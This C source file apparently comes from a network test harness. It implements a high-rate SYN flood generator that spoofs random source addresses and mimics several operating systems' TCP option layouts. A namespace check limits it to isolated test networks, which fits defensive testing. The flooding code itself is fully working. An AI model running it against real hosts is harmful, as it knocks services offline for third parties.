// SPDX-License-Identifier: Apache-2.0
// SYNs from random addresses and ports at a given rate, with the option layouts of several systems.
// Refuses to run in the network namespace of the host's first process.
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "packet.h"
#include "truth.h"

#define BATCH 64

static const struct variant {
  uint8_t ttl;
  uint16_t window;
  uint8_t size;
  uint8_t options[24];
} variants[] = {
    {64, 64240, 20, {2, 4, 5, 180, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7}},
    {128, 64240, 12, {2, 4, 5, 180, 1, 3, 3, 8, 1, 1, 4, 2}},
    {64, 65535, 24, {2, 4, 5, 180, 1, 3, 3, 6, 1, 1, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 4, 2, 0, 0}},
    {128, 8192, 8, {2, 4, 5, 180, 1, 1, 4, 2}},
    {255, 1024, 4, {2, 4, 5, 180}},
    {64, 5840, 20, {2, 4, 5, 100, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 2}},
};
#define VARIANTS (sizeof variants / sizeof variants[0])

// xorshift64*: fast enough for a million packets a second, and nothing here needs secrecy.
static uint64_t seed;
static uint64_t next_random(void) {
  seed ^= seed >> 12;
  seed ^= seed << 25;
  seed ^= seed >> 27;
  return seed * 2685821657736338717ull;
}

int main(int argc, char** argv) {
  static const struct option options[] = {
      {"interface", 1, 0, 'i'}, {"to-mac", 1, 0, 'm'},  {"to", 1, 0, 't'}, {"rate", 1, 0, 'r'},
      {"seconds", 1, 0, 's'},   {"network", 1, 0, 'n'}, {0, 0, 0, 0}};
  static uint8_t frames[BATCH][128];
  static struct mmsghdr messages[BATCH];
  static struct iovec parts[BATCH];
  const char *interface = NULL, *mac = NULL;
  struct endpoint target = {0};
  unsigned rate = 100000, network = 10;
  double seconds = 3;
  for (int c; (c = getopt_long(argc, argv, "", options, NULL)) != -1;) switch (c) {
      case 'i':
        interface = optarg;
        break;
      case 'm':
        mac = optarg;
        break;
      case 't':
        target = parse_endpoint(optarg);
        break;
      case 'r':
        rate = (unsigned)atoi(optarg);
        break;
      case 's':
        seconds = atof(optarg);
        break;
      case 'n':
        network = (unsigned)atoi(optarg);
        break;
      default:
        return 2;
    }
  if (!interface || !mac || target.address.ss_family != AF_INET) {
    fputs(
        "usage: syn_flood --interface NAME --to-mac MAC --to IP:PORT [--rate PER_SECOND]\n"
        "  [--seconds N] [--network FIRST_OCTET]\n",
        stderr);
    return 2;
  }
  struct stat mine, first;
  if (stat("/proc/self/ns/net", &mine) == 0 && stat("/proc/1/ns/net", &first) == 0 &&
      mine.st_ino == first.st_ino) {
    fputs("this is the host's own network: a flood is sent in a namespace only\n", stderr);
    return 1;
  }
  const struct sockaddr_in* to = (struct sockaddr_in*)&target.address;
  struct link link = open_link(interface, mac, 0);
  int one = 1;
  if (setsockopt(link.fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one) < 0)
    fail("PACKET_QDISC_BYPASS");
  random_bytes((uint8_t*)&seed, sizeof seed);
  seed |= 1;
  for (unsigned i = 0; i < BATCH; i++) {
    parts[i].iov_base = frames[i];
    messages[i].msg_hdr.msg_iov = &parts[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  uint64_t begin = now_ms(), sent = 0, refused = 0;
  uint64_t end = begin + (uint64_t)(seconds * 1000);
  for (uint64_t now = begin; now < end; now = now_ms()) {
    uint64_t due = (now - begin + 1) * rate / 1000;
    if (sent + BATCH > due) {
      usleep(300);
      continue;
    }
    for (unsigned i = 0; i < BATCH; i++) {
      const struct variant* variant = &variants[next_random() % VARIANTS];
      uint64_t word = next_random();
      struct tcp_fields fields = {
          .source = htonl(network << 24 | ((uint32_t)word & 0x00ffffff)),
          .destination = to->sin_addr.s_addr,
          .source_port = (uint16_t)(1024 + (word >> 24) % 64000),
          .destination_port = ntohs(to->sin_port),
          .sequence = (uint32_t)(word >> 32),
          .flags = 2,
          .window = variant->window,
          .ttl = variant->ttl,
          .options = variant->options,
          .options_size = variant->size,
      };
      parts[i].iov_len = write_frame(frames[i], &link, &fields, NULL, 0);
    }
    int done = sendmmsg(link.fd, messages, BATCH, 0);
    if (done < 0) {
      if (errno != ENOBUFS && errno != EAGAIN) fail("sendmmsg");
      refused++;
      continue;
    }
    sent += (uint64_t)done;
  }
  struct rusage usage;
  getrusage(RUSAGE_SELF, &usage);
  printf("{\"sent\":%llu,\"refused\":%llu,\"milliseconds\":%llu}\n", (unsigned long long)sent,
         (unsigned long long)refused, (unsigned long long)(now_ms() - begin));
  return 0;
}
